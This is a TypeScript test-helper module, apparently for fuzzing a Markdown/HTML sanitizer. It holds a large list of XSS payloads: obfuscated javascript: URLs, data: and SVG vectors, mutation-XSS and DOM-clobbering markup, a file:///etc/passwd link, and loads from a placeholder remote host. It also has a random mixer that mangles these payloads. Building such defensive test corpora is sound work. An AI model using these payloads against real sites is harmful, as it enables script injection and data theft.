/** A source of numbers from 0 up to 1, such as `Math.random`. */
export type Random = () => number;

/** The same numbers for the same seed (mulberry32). */
export function randomOf(seed: number): Random {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let value = Math.imul(state ^ (state >>> 15), 1 | state);
    value = (value + Math.imul(value ^ (value >>> 7), 61 | value)) ^ value;
    return ((value ^ (value >>> 14)) >>> 0) / 4294967296;
  };
}

/** What a script calls if it runs. */
const RUN = '__xss()';
/** A host that no request may go to. */
export const REMOTE = 'https://remote.invalid';

const URLS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript:${RUN}`,
  `&#0000106avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&#xA;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  `&#x20;javascript:${RUN}`,
  `&nbsp;javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\u00adscript:${RUN}`,
  `javascript%3A${RUN}`,
  `%6Aavascript:${RUN}`,
  `javascript\\:${RUN}`,
  `javascript://a.example/%0A${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://a.example/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `//remote.invalid/a`,
  `/\\remote.invalid/a`,
  `${REMOTE}/?q=secret`,
];

const AROUND_URL: readonly ((url: string) => string)[] = [
  (url) => `[a](${url})`,
  (url) => `[a](<${url}>)`,
  (url) => `[a](${url} "title")`,
  (url) => `![a](${url})`,
  (url) => `![a](<${url}> 'title')`,
  (url) => `[![a](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `[a]\n\n[a]: ${url}`,
  (url) => `[a]: <${url}> "t"\n\n![b][a] [a][]`,
  (url) => `<a href="${url}">a</a>`,
  (url) => `<img src="${url}" srcset="${url} 2x" alt="a">`,
  (url) => `<svg><a xlink:href="${url}"><text>a</text></a></svg>`,
  (url) => `<math><mi href="${url}">a</mi></math>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<form action="${url}"><button formaction="${url}">a</button></form>`,
  (url) => `<object data="${url}"></object><embed src="${url}">`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<base href="${url}">`,
  (url) => `<link rel="stylesheet" href="${url}">`,
];

const OTHERS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${REMOTE}/a.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}" onload="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><image href="${REMOTE}/a.png"/><use href="${REMOTE}/a.svg#a"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title><img title="</title><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?a ><img src=x onerror=${RUN}>?>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>a</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video src="${REMOTE}/a.mp4" poster="${REMOTE}/a.png"><source src="${REMOTE}/b" onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<picture><source srcset="${REMOTE}/a.png"><img src="${REMOTE}/b.png"></picture>`,
  `<style>@import "${REMOTE}/a.css"; * { background: url(${REMOTE}/b) }</style>`,
  `<p style="background:url(${REMOTE}/a.png)">a</p>`,
  `<table background="${REMOTE}/a.png"><td background="${REMOTE}/b.png">a`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="https://a.example/" ping="${REMOTE}/p" onclick="${RUN}">a</a>`,
  `<p id="body" name="cookie">a</p><form name="getElementById"><input name="body"></form>`,
  `<img name="getElementById" id="cookie">`,
  `<a id="defaultView"></a><a id="defaultView" name="location">a</a>`,
  `![a" onerror="${RUN}](x)`,
  `![a'><img src=x onerror=${RUN}>](x "y")`,
  `[a](https://a.example/ "t\\" onclick=\\"${RUN}")`,
  `[a](https://a.example/"onclick="${RUN})`,
  `[a](https://a.example/ 'x"><img src=x onerror=${RUN}>')`,
  `<https://a.example/"onclick="${RUN}>`,
  `https://a.example/"onclick=${RUN}//`,
  `www.a.example/<img src=x onerror=${RUN}>`,
  `\`\`\`js"onload="${RUN}\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`\`\`x onload=${RUN} class=y\na\n\`\`\``,
  `\`\`\`<img/src=x/onerror=${RUN}>\na\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `[^__proto__]\n\n[^__proto__]: a`,
  `[^constructor] [constructor]\n\n[constructor]: javascript:${RUN}\n[^constructor]: <img src=x onerror=${RUN}>`,
  `[^"onclick="x]\n\n[^"onclick="x]: [a](javascript:${RUN})`,
  `| <img src=x onerror=${RUN}> | [a](javascript:${RUN}) |\n|-|-|\n| ![a](javascript:${RUN}) | b |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `> <img src=x\n> onerror=${RUN}>`,
  `<div\nonclick="${RUN}"\nonmouseover="${RUN}">a</div>`,
  `a <b onclick="${RUN}">b</b> <i/onclick=${RUN}>c</i>`,
  `*<img src=x onerror=${RUN}>*`,
  `~~<a href=javascript:${RUN}>a</a>~~`,
  `\\<img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
];

/** Attacks that are known, each as a document. */
export const XSS_VECTORS: readonly string[] = [...AROUND_URL.flatMap((around) => URLS.map(around)), ...OTHERS];

const JUNK: readonly string[] = [
  '\n',
  '\n\n',
  '> ',
  '- ',
  '`',
  '**',
  '<',
  '>',
  '"',
  "'",
  '[',
  '](',
  ')',
  '\\',
  '&',
  '\t',
  '\u0000',
];

const pick = <T>(all: readonly T[], random: Random): T => all[Math.floor(random() * all.length)] as T;

/** A document of attacks that are joined, cut and mixed with marks. */
export function randomVector(random: Random): string {
  let text = '';
  const count = 1 + Math.floor(random() * 3);
  for (let at = 0; at < count; at += 1) {
    const vector = pick(XSS_VECTORS, random);
    const cut = Math.floor(random() * vector.length);
    text += random() < 0.5 ? vector : vector.slice(0, cut) + pick(JUNK, random) + vector.slice(cut);
    text += pick(JUNK, random);
  }
  return text;
}
